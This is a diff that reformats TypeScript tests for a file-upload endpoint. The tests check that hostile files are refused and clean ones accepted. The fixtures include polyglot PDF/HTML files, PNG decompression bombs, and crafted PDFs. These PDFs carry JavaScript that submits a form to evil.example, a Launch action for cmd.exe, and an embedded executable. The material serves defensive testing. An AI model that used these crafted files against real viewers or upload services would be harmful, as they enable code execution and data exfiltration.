@@ -47,7 +47,16 @@ const refused: [string, Buffer, string, string][] = [
   ['a PDF with HTML after %%EOF (polyglot)', Buffer.concat([makePdf(), HTML]), 'boarding.pdf', 'application/pdf'],
   ['a PDF header on an HTML page', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), 'boarding.pdf', 'application/pdf'],
   ['a JPEG cut short', makeJpeg().subarray(0, 1000), 'photo.jpg', 'image/jpeg'],
-  ['a PNG with a damaged chunk', (() => { const p = Buffer.from(makePng(30, 10)); p[40] = p[40]! ^ 0xff; return p; })(), 'scan.png', 'image/png'],
+  [
+    'a PNG with a damaged chunk',
+    (() => {
+      const p = Buffer.from(makePng(30, 10));
+      p[40] = p[40]! ^ 0xff;
+      return p;
+    })(),
+    'scan.png',
+    'image/png',
+  ],
   ['a PNG bomb (60000×60000 declared)', pngBomb(), 'scan.png', 'image/png'],
 ];
 
@@ -65,7 +74,12 @@ describe('hostile documents', () => {
 
   it('accepts the same kinds of file when they are whole and clean (the checks are not blanket refusals)', async () => {
     const claim = await createClaim(t.app, ada);
-    for (const [data, filename] of [[makeJpeg(), 'a.jpg'], [makePng(20, 10), 'b.png'], [makePdf(), 'c.pdf'], [Buffer.concat([makePdf(), Buffer.from('\r\n\0\0 ')]), 'padded.pdf']] as const) {
+    for (const [data, filename] of [
+      [makeJpeg(), 'a.jpg'],
+      [makePng(20, 10), 'b.png'],
+      [makePdf(), 'c.pdf'],
+      [Buffer.concat([makePdf(), Buffer.from('\r\n\0\0 ')]), 'padded.pdf'],
+    ] as const) {
       expect((await t.app.inject(uploadRequest(claim.id, ada, { data, filename }))).statusCode, filename).toBe(201);
     }
   });
@@ -114,13 +128,32 @@ async function generatedPdf(withScript = false): Promise<Buffer> {
 }
 
 const unsafePdfs: [string, () => Buffer | Promise<Buffer>][] = [
-  ['JavaScript run on open (/OpenAction /S /JavaScript)', () => craftedPdf('/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/x")) >>')],
+  [
+    'JavaScript run on open (/OpenAction /S /JavaScript)',
+    () => craftedPdf('/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/x")) >>'),
+  ],
   ['JavaScript with an escaped name (/Java#53cript)', () => craftedPdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>')],
-  ['a document-level JavaScript name tree', () => craftedPdf('/Names << /JavaScript 4 0 R >>', ['4 0 obj << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> endobj'])],
-  ['an additional action on the page (/AA)', () => craftedPdf('', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /URI /URI (https://evil.example) >> >> >> endobj'])],
+  [
+    'a document-level JavaScript name tree',
+    () => craftedPdf('/Names << /JavaScript 4 0 R >>', ['4 0 obj << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> endobj']),
+  ],
+  [
+    'an additional action on the page (/AA)',
+    () => craftedPdf('', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /URI /URI (https://evil.example) >> >> >> endobj']),
+  ],
   ['a Launch action', () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /Launch /F (cmd.exe) >> endobj'])],
-  ['an OpenAction that opens a link (an action by reference)', () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /URI /URI (https://evil.example) >> endobj'])],
-  ['an embedded file', () => craftedPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', ['4 0 obj << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> endobj', '5 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj'])],
+  [
+    'an OpenAction that opens a link (an action by reference)',
+    () => craftedPdf('/OpenAction 4 0 R', ['4 0 obj << /S /URI /URI (https://evil.example) >> endobj']),
+  ],
+  [
+    'an embedded file',
+    () =>
+      craftedPdf('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', [
+        '4 0 obj << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> endobj',
+        '5 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj',
+      ]),
+  ],
   ['JavaScript inside a compressed object stream (generated)', () => generatedPdf(true)],
 ];
 
@@ -146,11 +179,13 @@ describe('PDF content (F11)', () => {
     expect(res.json().code).toBe('unsupported-file-type');
   });
 
-  it('accepts real PDFs: a generator\'s (compressed objects), one with links and a plain destination on open', async () => {
+  it("accepts real PDFs: a generator's (compressed objects), one with links and a plain destination on open", async () => {
     const claim = await createClaim(t.app, ada);
     const files = [
       await generatedPdf(),
-      craftedPdf('/OpenAction [3 0 R /Fit]', ['4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://airline.example/booking) >> >> endobj']),
+      craftedPdf('/OpenAction [3 0 R /Fit]', [
+        '4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://airline.example/booking) >> >> endobj',
+      ]),
     ];
     for (const data of files) {
       const res = await t.app.inject(uploadRequest(claim.id, ada, { data, filename: 'pass.pdf' }));
@@ -168,7 +203,26 @@ function jpegDeclaring(width: number, height: number): Buffer {
 
 describe('pixel budget (I6)', () => {
   it.each([
-    ['a PNG declaring 10000×8000 pixels', Buffer.concat([makePng(1, 1).subarray(0, 8), chunk('IHDR', (() => { const h = Buffer.alloc(13); h.writeUInt32BE(10_000, 0); h.writeUInt32BE(8_000, 4); h[8] = 8; h[9] = 6; return h; })()), chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))]), 'image/png'],
+    [
+      'a PNG declaring 10000×8000 pixels',
+      Buffer.concat([
+        makePng(1, 1).subarray(0, 8),
+        chunk(
+          'IHDR',
+          (() => {
+            const h = Buffer.alloc(13);
+            h.writeUInt32BE(10_000, 0);
+            h.writeUInt32BE(8_000, 4);
+            h[8] = 8;
+            h[9] = 6;
+            return h;
+          })(),
+        ),
+        chunk('IDAT', deflateSync(Buffer.alloc(64))),
+        chunk('IEND', Buffer.alloc(0)),
+      ]),
+      'image/png',
+    ],
     ['a JPEG declaring 12000×9000 pixels', jpegDeclaring(12_000, 9_000), 'image/jpeg'],
   ])('refuses %s with 422 image-too-large', async (_label, data, contentType) => {
     const claim = await createClaim(t.app, ada);
@@ -177,7 +231,7 @@ describe('pixel budget (I6)', () => {
     expect(res.json().code).toBe('image-too-large');
   });
 
-  it('accepts a JPEG of a phone photo\'s size (4000×3000)', async () => {
+  it("accepts a JPEG of a phone photo's size (4000×3000)", async () => {
     const claim = await createClaim(t.app, ada);
     const res = await t.app.inject(uploadRequest(claim.id, ada, { data: jpegDeclaring(4000, 3000), filename: 'photo.jpg', contentType: 'image/jpeg' }));
     expect(res.statusCode, res.body).toBe(201);
